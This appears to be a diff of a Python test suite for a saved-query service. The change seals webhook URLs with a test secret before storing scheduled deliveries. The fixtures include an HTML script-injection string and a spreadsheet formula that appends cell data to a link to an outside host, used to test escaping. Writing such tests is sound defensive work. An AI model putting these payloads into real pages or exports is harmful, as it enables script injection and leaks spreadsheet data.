@@ -9,6 +9,7 @@ from typing import Any
 
 import httpx
 import pytest
+from pydantic import SecretStr
 
 from api.app import create_app
 from api.queries.page import MOST_ROWS, POLICY
@@ -17,13 +18,15 @@ from graph.adhoc.running import Adhoc
 from graph.database.sessions import Database, DatabaseAddress
 from graph.model.kinds import ParameterType
 from graph.saved.library import list_library
-from graph.saved.queries import Parameter
+from graph.saved.queries import Draft, Parameter
 from graph.saved.schedules import DeliveryFormat, Schedule, set_schedule
-from graph.saved.store import Draft, save_query
+from graph.saved.sealing import Seals
+from graph.saved.store import save_query
 from tests.helpers.database import empty
 from tests.helpers.graph_dump import ask
 from tests.helpers.serving_app import asking_app
 
+SECRET = "a secret of the tests"
 HOSTILE = "\"'><script>alert(1)</script>&amp;<!--"
 FORMULA = '=HYPERLINK("http://example.org?"&A1)'
 DRAFTS = (
@@ -53,7 +56,7 @@ DRAFTS = (
 async def client(migrated_database: Database, database_address: DatabaseAddress) -> AsyncIterator[httpx.AsyncClient]:
     """A client of a service with some saved queries."""
     await empty(migrated_database)
-    settings = Settings(warm_up=False, scheduler=False, response_cache_bytes=0)
+    settings = Settings(warm_up=False, scheduler=False, response_cache_bytes=0, webhook_secret=SecretStr(SECRET))
     async with Adhoc(database_address) as adhoc:
         for draft in DRAFTS:
             await save_query(migrated_database, adhoc, draft, caller="test")
@@ -255,13 +258,14 @@ async def test_the_list_shows_schedules_and_deliveries_that_were_given_up(
 ) -> None:
     """With the host alone, as the rest of an address may be a secret; and escaped."""
     url = "https://hooks.example.org/token-of-the-receiver"
-    schedule = Schedule("nightly", "echo", {"text": "a"}, url, DeliveryFormat.CSV, daily_at_hour=4)
+    sealed = Seals(SECRET.encode()).close(url)
+    schedule = Schedule("nightly", "echo", {"text": "a"}, sealed, DeliveryFormat.CSV, daily_at_hour=4)
     await set_schedule(migrated_database, schedule)
     await ask(
         migrated_database,
-        "CREATE (:QueryDelivery {id: 'nightly@1', schedule: 'nightly', query: 'echo', parameters: '{}', url: $url, "
-        "format: 'CSV', due_at: datetime(), status: 'DEAD', num_attempts: 6, last_error: $error})",
-        url=url,
+        "CREATE (:QueryDelivery {id: 'nightly@1', schedule: 'nightly', query: 'echo', parameters: '{}', "
+        "sealed_url: $url, format: 'CSV', due_at: datetime(), status: 'DEAD', num_attempts: 6, last_error: $error})",
+        url=sealed,
         error=HOSTILE,
     )
 
